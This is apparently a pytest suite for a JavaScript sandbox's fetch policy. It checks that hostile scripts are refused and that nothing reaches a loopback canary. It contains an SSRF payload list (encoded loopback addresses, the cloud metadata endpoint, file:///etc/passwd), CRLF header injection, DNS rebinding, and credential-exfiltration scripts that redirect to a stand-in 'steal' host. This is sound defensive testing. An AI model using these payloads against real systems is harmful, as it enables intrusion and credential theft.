"""End to end: hostile JavaScript reaching for the network through ``fetch`` in the real sandbox.

Each script runs in QuickJS under wasmtime via ``run_js`` with a real ``FetchPolicy``; the host
must refuse with ``capability_denied``, the loopback canary must see nothing, and the host process
must keep serving calls afterwards.
"""

from __future__ import annotations

import json
import time
from typing import TYPE_CHECKING, Any

import pytest
from tests.factories import error_of

from toolfoundry.sandbox import SandboxPolicy, run_js
from toolfoundry.sandbox.host.credentials import Credential
from toolfoundry.sandbox.host.fetch import FetchPolicy, FetchRecord
from toolfoundry.sandbox.host.protocols import FetchProvider
from toolfoundry.spec import CallResult, ErrorKind

if TYPE_CHECKING:
    from tests.sandbox.host.conftest import LoopbackServer

SECRET = "Bearer js-s3cr3t-42"
ENV = "TF_FETCH_JS_TOKEN"


def _run(
    code: str, fetch_policy: FetchProvider | None, args: Any = None, **limits: Any
) -> CallResult:
    return run_js(code, args or {}, SandboxPolicy(fetch=fetch_policy, tool="hostile", **limits))


def _host_survives() -> None:
    result = run_js("export function handler(a) { return a.n * 2 }", {"n": 21})
    assert result.ok
    assert result.value == 42


def _canary_policy(port: int, **extra: Any) -> FetchPolicy:
    """Allows the canary's port under several names, but none of its addresses."""
    return FetchPolicy(
        allow=(f"allowed.test:{port}", f"localhost:{port}", f"127.0.0.1:{port}", "allowed.test"),
        allow_http=("allowed.test", "localhost", "127.0.0.1"),
        resolver=lambda host: ["127.0.0.1"],
        **extra,
    )


SSRF_URLS = [
    "http://2130706433:{port}/",
    "http://0x7f000001:{port}/",
    "http://0177.0.0.1:{port}/",
    "http://127.1:{port}/",
    "http://[::1]:{port}/",
    "http://[::ffff:127.0.0.1]:{port}/",
    "http://[::ffff:7f00:1]:{port}/",
    "http://169.254.169.254/latest/meta-data/",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://allowed.test@127.0.0.1:{port}/",
    "http://allowed.test:{port}@127.0.0.1:{port}/",
    "http://localhost:{port}/",
    "http://allowed.test:{port}/",  # allowlisted name resolving to loopback
    "http://127.0.0.1:{port}/",
    "http://0.0.0.0:{port}/",
    "file:///etc/passwd",
    "data:text/plain,hello",
    "gopher://127.0.0.1:{port}/_GET",
    "ws://allowed.test/",
    "https://allowed.test:22/",
]


@pytest.mark.parametrize("url", SSRF_URLS)
def test_ssrf_from_javascript_is_denied(canary: LoopbackServer, url: str) -> None:
    code = "export async function handler({ url }) { return (await fetch(url)).status }"
    result = _run(code, _canary_policy(canary.port), {"url": url.format(port=canary.port)})
    assert not result.ok
    assert result.error is not None
    assert error_of(result).kind is ErrorKind.CAPABILITY_DENIED
    assert canary.hits == []
    _host_survives()


def test_script_catching_denials_keeps_trying_and_still_gets_nothing(
    canary: LoopbackServer,
) -> None:
    code = """
    export async function handler({ urls }) {
      const out = [];
      for (const u of urls) {
        try { out.push((await fetch(u, { redirect: "follow" })).status) }
        catch (e) { out.push(e.name) }
      }
      return out;
    }
    """
    urls = [u.format(port=canary.port) for u in SSRF_URLS[:15]]
    policy = _canary_policy(canary.port, max_requests=100)
    result = _run(code, policy, {"urls": urls})
    assert result.ok, result.error
    assert result.value == ["TypeError"] * len(urls)
    assert canary.hits == []


def test_redirect_follow_option_is_ignored(allowed: LoopbackServer, canary: LoopbackServer) -> None:
    policy = FetchPolicy(
        allow=(f"127.0.0.1:{allowed.port}",),
        allow_http=("127.0.0.1",),
        allow_private=("127.0.0.1",),
    )
    code = """
    export async function handler({ url }) {
      const r = await fetch(url, { redirect: "follow" });
      return { status: r.status, location: r.headers.get("location"), ok: r.ok };
    }
    """
    target = f"http://127.0.0.1:{canary.port}/internal"
    result = _run(code, policy, {"url": f"{allowed.base}/redirect?to={target}"})
    assert result.value == {"status": 302, "location": target, "ok": False}
    assert canary.hits == []


@pytest.mark.parametrize(
    "headers",
    [
        {"Host": "internal.service"},
        {"X-Forwarded-For": "127.0.0.1"},
        {"Forwarded": "for=127.0.0.1"},
        {"Proxy-Authorization": "Basic eA=="},
        {"Transfer-Encoding": "chunked"},
        {"X-Ok": "a\r\nHost: internal"},
        {"X-Ok": "a\nb"},
    ],
)
def test_header_injection_from_javascript(allowed: LoopbackServer, headers: dict[str, Any]) -> None:
    policy = FetchPolicy(
        allow=(f"127.0.0.1:{allowed.port}",),
        allow_http=("127.0.0.1",),
        allow_private=("127.0.0.1",),
    )
    code = "export async function handler(a) { return (await fetch(a.url, a.init)).status }"
    result = _run(code, policy, {"url": f"{allowed.base}/echo", "init": {"headers": headers}})
    assert not result.ok
    assert error_of(result).kind is ErrorKind.CAPABILITY_DENIED
    assert allowed.hits == []


def test_url_object_that_changes_between_reads_is_parsed_once(
    allowed: LoopbackServer, canary: LoopbackServer
) -> None:
    policy = FetchPolicy(
        allow=(f"127.0.0.1:{allowed.port}",),
        allow_http=("127.0.0.1",),
        allow_private=("127.0.0.1",),
    )
    code = """
    export async function handler({ good, evil }) {
      let n = 0;
      const shifty = { toString() { n++; return n === 1 ? good : evil } };
      const r = await fetch(shifty);
      return { status: r.status, reads: n };
    }
    """
    args = {"good": f"{allowed.base}/echo", "evil": f"http://127.0.0.1:{canary.port}/"}
    result = _run(code, policy, args)
    assert result.ok, result.error
    assert result.value["status"] == 200
    assert len(allowed.hits) == 1
    assert canary.hits == []


def test_raw_host_hook_is_not_reachable() -> None:
    code = """
    export function handler() {
      return [typeof globalThis.__host, typeof globalThis.std, typeof globalThis.os,
              Object.getOwnPropertyNames(globalThis).filter(n => /host/i.test(n))];
    }
    """
    result = run_js(code)
    assert result.ok, result.error
    assert result.value[:3] == ["undefined", "undefined", "undefined"]
    assert result.value[3] == []


def test_overwritten_fetch_globals_gain_nothing(canary: LoopbackServer) -> None:
    code = """
    export async function handler({ url }) {
      globalThis.Request = class { constructor() { this.url = url } };
      URL.prototype.toString = () => url;
      try { await fetch("https://allowed.test/"); } catch (e) { return e.name + ": " + e.message }
      return "fetched";
    }
    """
    policy = _canary_policy(canary.port)
    result = _run(code, policy, {"url": f"http://127.0.0.1:{canary.port}/"})
    assert result.ok, result.error
    assert result.value.startswith("TypeError")
    assert canary.hits == []


def test_dns_rebinding_from_javascript(rebind_pair: tuple[LoopbackServer, LoopbackServer]) -> None:
    target, bound_canary = rebind_pair
    answers = iter([["127.0.0.1"], ["127.0.0.2"], ["127.0.0.2"]])
    policy = FetchPolicy(
        allow=(f"rebind.test:{target.port}",),
        allow_http=("rebind.test",),
        allow_private=("127.0.0.1",),
        resolver=lambda host: next(answers),
    )
    code = """
    export async function handler({ url }) {
      const out = [];
      for (let i = 0; i < 2; i++) {
        try { out.push((await fetch(url)).status) } catch (e) { out.push(e.message) }
      }
      return out;
    }
    """
    result = _run(code, policy, {"url": f"http://rebind.test:{target.port}/x"})
    assert result.ok, result.error
    assert result.value[0] == 200
    assert "127.0.0.2" in result.value[1]
    assert len(target.hits) == 1
    assert bound_canary.hits == []


def test_allowed_fetch_from_javascript_reads_json(allowed: LoopbackServer) -> None:
    records: list[FetchRecord] = []
    policy = FetchPolicy(
        allow=(f"127.0.0.1:{allowed.port}",),
        allow_http=("127.0.0.1",),
        allow_private=("127.0.0.1",),
        audit=records.append,
    )
    code = """
    export async function handler({ url }) {
      const r = await fetch(url, { method: "POST", body: JSON.stringify({ hi: 1 }),
                                  headers: { "content-type": "application/json" } });
      const echo = await r.json();
      return { ok: r.ok, method: echo.method, type: echo.headers["content-type"] };
    }
    """
    result = _run(code, policy, {"url": f"{allowed.base}/echo"})
    assert result.ok, result.error
    assert result.value == {"ok": True, "method": "POST", "type": "application/json"}
    assert [(r.tool, r.method, r.status) for r in records] == [("hostile", "POST", 200)]


def test_request_cap_from_a_loop(allowed: LoopbackServer) -> None:
    policy = FetchPolicy(
        allow=(f"127.0.0.1:{allowed.port}",),
        allow_http=("127.0.0.1",),
        allow_private=("127.0.0.1",),
        max_requests=3,
    )
    code = """
    export async function handler({ url }) {
      let denied = 0;
      for (let i = 0; i < 50; i++) { try { await fetch(url) } catch (e) { denied++ } }
      return denied;
    }
    """
    result = _run(code, policy, {"url": f"{allowed.base}/echo"})
    assert result.value == 47
    assert len(allowed.hits) == 3


def test_slow_server_is_cut_by_the_call_budget(allowed: LoopbackServer) -> None:
    policy = FetchPolicy(
        allow=(f"127.0.0.1:{allowed.port}",),
        allow_http=("127.0.0.1",),
        allow_private=("127.0.0.1",),
    )
    code = "export async function handler({ url }) { return (await fetch(url)).status }"
    started = time.monotonic()
    result = _run(code, policy, {"url": f"{allowed.base}/slow?s=3"}, timeout_s=0.5)
    assert not result.ok
    assert error_of(result).kind is ErrorKind.TIMEOUT
    assert time.monotonic() - started < 1.5
    _host_survives()


@pytest.fixture
def token(monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.setenv(ENV, SECRET)
    return SECRET


def _credential_policy(port: int, **extra: Any) -> FetchPolicy:
    return FetchPolicy(
        allow=(f"api.test:{port}", f"other.test:{port}"),
        allow_http=("api.test", "other.test"),
        allow_private=("127.0.0.1",),
        credentials=(Credential("api.test", "Authorization", env=ENV),),
        resolver=lambda host: ["127.0.0.1"],
        **extra,
    )


def _leaked(result: CallResult) -> bool:
    text = json.dumps(
        {
            "value": result.value,
            "error": error_of(result).to_dict() if result.error else None,
            "logs": list(result.logs),
        }
    )
    return "s3cr3t" in text


def test_credential_exfiltration_by_reading_the_echo(allowed: LoopbackServer, token: str) -> None:
    code = """
    export async function handler({ base }) {
      const r = await fetch(base + "/echo");
      const seen = await r.text();
      const r2 = await fetch(base + "/echo-auth");
      const headers = [...r2.headers];
      console.log(seen, JSON.stringify(headers));
      return { seen, headers, body: await r2.text() };
    }
    """
    result = _run(
        code, _credential_policy(allowed.port), {"base": f"http://api.test:{allowed.port}"}
    )
    assert result.ok, result.error
    assert allowed.hits[0].headers["Authorization"] == SECRET  # it was really sent
    assert result.value["body"] == "you sent [redacted]"
    assert not _leaked(result)


def test_credential_exfiltration_to_another_host(allowed: LoopbackServer, token: str) -> None:
    code = """
    export async function handler({ port }) {
      // Bounce through the credential host's redirect to a host the script controls.
      const r = await fetch(`http://api.test:${port}/redirect?to=http://other.test:${port}/steal`,
                            { redirect: "follow" });
      const copy = r.headers.get("authorization") || "none";
      await fetch(`http://other.test:${port}/echo`, { headers: { "x-copy": copy } });
      return r.status;
    }
    """
    result = _run(code, _credential_policy(allowed.port), {"port": allowed.port})
    assert result.value == 302
    paths = [(h.path, h.headers.get("Authorization")) for h in allowed.hits]
    assert paths == [
        (f"/redirect?to=http://other.test:{allowed.port}/steal", SECRET),
        ("/echo", None),
    ]
    assert allowed.hits[1].headers["x-copy"] == "none"


def test_credential_exfiltration_through_error_messages(
    allowed: LoopbackServer, token: str
) -> None:
    code = """
    export async function handler({ base }) {
      const msgs = [];
      for (const path of ["/slow?s=2", "/bytes?n=5000"]) {
        try { await fetch(base + path) } catch (e) { msgs.push(String(e.message)) }
      }
      return msgs;
    }
    """
    policy = _credential_policy(allowed.port, read_timeout=0.2, max_response_bytes=100)
    result = _run(code, policy, {"base": f"http://api.test:{allowed.port}"})
    assert result.ok, result.error
    assert len(result.value) == 2
    assert not _leaked(result)
